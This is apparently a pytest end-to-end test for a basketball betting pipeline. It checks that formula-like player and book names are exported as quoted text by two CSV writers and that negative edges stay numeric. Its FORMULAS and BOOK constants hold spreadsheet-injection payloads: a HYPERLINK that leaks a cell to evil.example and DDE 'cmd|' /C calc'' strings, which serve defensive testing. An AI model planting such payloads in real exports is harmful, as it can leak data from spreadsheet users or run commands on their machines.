"""Names that a spreadsheet would run as formulas (from a box-score import) and a book name
from import-lines go through the whole chain verbatim, and come out of both CSV writers
(`export-predictions` and the console's /slate.csv) as text: quoted with a leading ', while
numeric columns keep their negative numbers as numbers."""
from __future__ import annotations

import csv
import io
import os
import subprocess

import pandas as pd
import pytest
import requests

from bin import stack as local
from ingest.importer import import_files
from ingest.importer.lines import import_lines
from processors.runner import nightly
from shared.config import Settings
from tests.conftest import ROOT, SAMPLE
from tests.support.stack import DAY

pytestmark = pytest.mark.e2e
TOKEN = "test-token-0123456789"
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Jokic")', "+cmd|' /C calc'!A0", "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
BOOK = '=HYPERLINK("http://evil.example","fanduel")'
SPREADSHEET_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def formula_like(text: str) -> bool:
    """What a spreadsheet would evaluate: starts like a formula and is not a plain number."""
    if not text.startswith(SPREADSHEET_FORMULA):
        return False
    try:
        float(text)
    except ValueError:
        return True
    return False


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    """The chain over box scores with formula names and a line from a formula book; the
    console's slate CSV while it serves, then `export-predictions` once it has stopped."""
    home = tmp_path_factory.mktemp("formulas")
    logs = pd.read_csv(SAMPLE, dtype=str, keep_default_na=False)
    playing = logs.loc[logs["GAME_DATE"] == str(DAY), ["PLAYER_ID", "PLAYER_NAME", "TEAM_ABBREVIATION"]] \
        .drop_duplicates("PLAYER_ID")
    renamed = dict(zip(playing["PLAYER_ID"].head(len(FORMULAS)), FORMULAS, strict=True))
    logs["PLAYER_NAME"] = [renamed.get(p, n) for p, n in zip(logs["PLAYER_ID"], logs["PLAYER_NAME"], strict=True)]
    logs.to_csv(home / "box.csv", index=False)
    priced = playing.iloc[len(FORMULAS)]
    # a price of 1.01 either side leaves no edge at any sensible line: every edge is negative
    pd.DataFrame([{"player_name": priced["PLAYER_NAME"], "team": priced["TEAM_ABBREVIATION"], "prop": prop,
                   "line": line, "over_price": 1.01, "under_price": 1.01, "book": BOOK, "as_of": f"{DAY}T15:00:00Z"}
                  for prop, line in (("points", 10.5), ("rebounds", 4.5), ("assists", 2.5))]
                 ).to_csv(home / "lines.csv", index=False)
    settings = Settings.from_env({"PIPELINE_HOME": str(home / "var"), "PIPELINE_AUTH_TOKEN": TOKEN})
    st = local.start(settings, start_dispatcher=False)
    try:
        import_files(st.warehouse, [home / "box.csv"])
        assert import_lines(st.warehouse, home / "lines.csv").unmatched == []
        assert all(e.status == "success" for e in nightly(st.warehouse, st.bus, DAY))
        st.bus.drain()
        slate = requests.get(f"{st.urls['console']}/slate.csv?date={DAY}&system=all",
                             headers={"Authorization": f"Bearer {TOKEN}"}, timeout=60)
        assert slate.status_code == 200, slate.text
    finally:
        st.stop()
    out = home / "predictions.csv"
    proc = subprocess.run([str(ROOT / "bin" / "pipeline"), "export-predictions", "--start", str(DAY), "--end",
                           str(DAY), "--out", str(out)], env={**os.environ, "PIPELINE_HOME": str(home / "var")},
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    return {"slate.csv": slate.text, "export-predictions": out.read_text()}


@pytest.mark.parametrize("writer", ["slate.csv", "export-predictions"])
def test_no_text_cell_reaches_a_spreadsheet_as_a_formula(exported, writer):
    rows = list(csv.DictReader(io.StringIO(exported[writer])))
    live = [(r["player_name"], c, v) for r in rows for c, v in r.items() if formula_like(v)]
    assert live == [], f"{writer}: cells a spreadsheet would run"
    names = {r["player_name"] for r in rows}
    assert {f"'{name}" for name in FORMULAS} <= names, "each name is still there, as text"


@pytest.mark.parametrize("writer", ["slate.csv", "export-predictions"])
def test_negative_numbers_stay_numbers(exported, writer):
    rows = list(csv.DictReader(io.StringIO(exported[writer])))
    edges = [r["edge"] for r in rows if r["edge"].startswith("-")]
    assert edges and all(float(e) < 0 for e in edges), "a negative edge is written as a plain number"


def test_a_book_name_from_import_lines_is_text_in_the_export(exported):
    rows = list(csv.DictReader(io.StringIO(exported["export-predictions"])))
    assert {r["line_book"] for r in rows if r["line_book"]} == {f"'{BOOK}"}
